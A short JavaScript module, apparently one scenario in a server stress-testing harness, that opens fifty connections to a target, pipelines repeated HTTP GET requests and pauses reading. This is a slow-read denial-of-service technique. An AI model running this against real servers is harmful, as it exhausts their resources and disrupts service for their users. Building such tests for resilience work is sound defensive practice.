// Fifty connections that ask for as much as they may at a time and read nothing.
import { holdConnections } from '../support/connections.mjs';

export const attack = (target) => {
  const packet = `GET / HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n\r\n`.repeat(10);
  return holdConnections(target, 50, (socket) => {
    socket.pause();
    socket.write(packet);
  });
};
